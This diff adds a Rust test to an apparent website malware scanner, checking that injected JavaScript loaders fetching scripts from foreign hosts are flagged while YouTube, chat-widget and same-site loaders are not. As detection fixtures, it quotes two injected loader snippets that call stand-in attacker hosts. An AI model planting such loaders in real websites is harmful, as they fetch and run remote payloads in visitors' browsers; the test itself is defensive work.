@@ -375,3 +375,24 @@ fn an_injectors_hexadecimal_marker_around_obfuscated_code_is_found() {
     assert_eq!(found(&format!("{site}\n/*857fa143e5988d9492f71363cb97f97f*/var a=1;")), None);
     assert_eq!(found(&format!("{site}\n/* sha: 857fa143e5988d9492f71363cb97f97f */")), None);
 }
+
+#[test]
+fn a_whole_script_loading_another_sites_script_is_reported_for_a_look() {
+    // fresh97's line appended to a theme's `superfish.js`, fresh76's and fresh97's loaders.
+    let appended = ";(function(e,l,v,j,f){j=e.createElement(l);f=e.getElementsByTagName(l)[0];j.async=1;j.src=v;\
+                    f.parentNode.insertBefore(j,f);})(document,'script','https://trademark.example-church.org/oBiWuds69d=');";
+    let plain = "(function() {\nvar elem = document.createElement('script');\nelem.type = 'text/javascript';\n\
+                 elem.src = 'https://bes.belaterbewasthere.example/corn/flex.js?tp=799';\n\
+                 document.getElementsByTagName(\"head\")[0].appendChild(elem);\n})();";
+    for js in [appended, plain] {
+        assert_eq!(remote_loader(js.as_bytes()).map(|i| i.danger), Some(Danger::Medium), "{js}");
+    }
+    // A service's loader (YouTube's player API, a chat widget) and a script of the site's own
+    // folder are the site's.
+    let youtube = "var tag = document.createElement('script'); tag.src = 'https://www.youtube.com/iframe_api';";
+    let own = "var s = document.createElement('script'); s.src = '/wp-content/themes/x/js/extra.js';";
+    let chat = plain.replace("bes.belaterbewasthere.example/corn/flex.js?tp=799", "embed.tawk.to/5f1/default");
+    for js in [youtube, own, &chat] {
+        assert!(remote_loader(js.as_bytes()).is_none(), "{js}");
+    }
+}
